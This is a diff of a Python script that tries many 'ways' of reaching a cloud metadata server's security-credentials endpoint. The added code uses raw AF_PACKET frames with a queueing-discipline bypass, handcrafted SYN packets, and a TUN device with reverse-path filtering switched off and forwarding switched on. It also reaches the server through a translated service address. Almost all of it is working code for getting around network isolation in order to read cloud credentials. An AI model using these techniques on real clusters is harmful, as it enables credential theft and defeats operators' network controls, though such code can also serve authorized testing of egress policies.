@@ -2,12 +2,14 @@
 
 Run as `python3 ways.py <way> [argument]`. `M` is the metadata server; nothing else is contacted.
 """
-import ctypes, errno, os, socket, struct, sys
+import ctypes, errno, fcntl, os, socket, struct, sys, time
 
 M = ("100.100.100.200", 80)
 MAPPED = ("::ffff:" + M[0], M[1])
 REQUEST = b"GET /latest/meta-data/ram/security-credentials/ HTTP/1.0\r\nHost: 100.100.100.200\r\n\r\n"
 MSG_FASTOPEN, TCP_FASTOPEN_CONNECT, TCP_REPAIR, IPPROTO_MPTCP = 0x20000000, 30, 19, 262
+SOL_PACKET, PACKET_QDISC_BYPASS, ETH_P_IP = 263, 20, 0x0800
+TUNSETIFF, IFF_TUN, IFF_NO_PI, SIOCSIFFLAGS, IFF_UP, IFF_RUNNING = 0x400454CA, 1, 0x1000, 0x8914, 1, 0x40
 
 
 def tcp(family=socket.AF_INET, protocol=0):
@@ -201,6 +203,63 @@ def raw_syn(ip):
     syn = struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
     socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(header + syn, (M[0], 0))
     return sent()
+
+
+def gateway():
+    """Interface and hardware address of the way out."""
+    for line in open("/proc/net/route"):
+        interface, destination, hop, *_ = line.split()
+        if destination == "00000000":
+            break
+    hop = socket.inet_ntoa(struct.pack("=I", int(hop, 16)))
+    udp().sendto(b"x", (hop, 9))
+    deadline = time.monotonic() + 2
+    while time.monotonic() < deadline:
+        for line in open("/proc/net/arp"):
+            address, _, flags, hardware, *_ = line.split()
+            if address == hop and flags == "0x2":
+                return interface, bytes.fromhex(hardware.replace(":", ""))
+    raise TimeoutError
+
+
+def whole_syn(ip):
+    """A SYN as it is on the wire; nobody but the receiver looks at the checksum of TCP."""
+    header = lambda checksum: struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, socket.IPPROTO_TCP, checksum, socket.inet_aton(ip), socket.inet_aton(M[0]))
+    total = sum(struct.unpack("!10H", header(0)))
+    total = (total & 0xFFFF) + (total >> 16)
+    return header(~total & 0xFFFF) + struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
+
+
+def packet_socket(ip, bypass=0):
+    """A frame that no socket layer sees; with the bypass, no queueing discipline either."""
+    interface, hardware = gateway()
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
+    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, bypass)
+    s.sendto(whole_syn(ip), (interface, ETH_P_IP, 0, 0, hardware))
+    return sent()
+
+
+def packet_socket_bypass(ip):
+    return packet_socket(ip, 1)
+
+
+def tun(_):
+    """A packet that comes in from a device of the pod's own, and is forwarded by the pod and then by the node."""
+    device = open("/dev/net/tun", "r+b", buffering=0)
+    fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH14x", b"k2rtun", IFF_TUN | IFF_NO_PI))
+    fcntl.ioctl(udp(), SIOCSIFFLAGS, struct.pack("16sH14x", b"k2rtun", IFF_UP | IFF_RUNNING))
+    for device_name in ("all", "k2rtun"):
+        with open(f"/proc/sys/net/ipv4/conf/{device_name}/rp_filter", "w") as file:
+            file.write("0")
+    with open("/proc/sys/net/ipv4/conf/k2rtun/forwarding", "w") as file:
+        file.write("1")
+    device.write(whole_syn("10.99.0.2"))
+    return sent()
+
+
+def service():
+    """A virtual address that the node translates into the metadata server's."""
+    return dial(tcp(), ("10.96.0.9", 80))
 
 
 def source_route(ip):
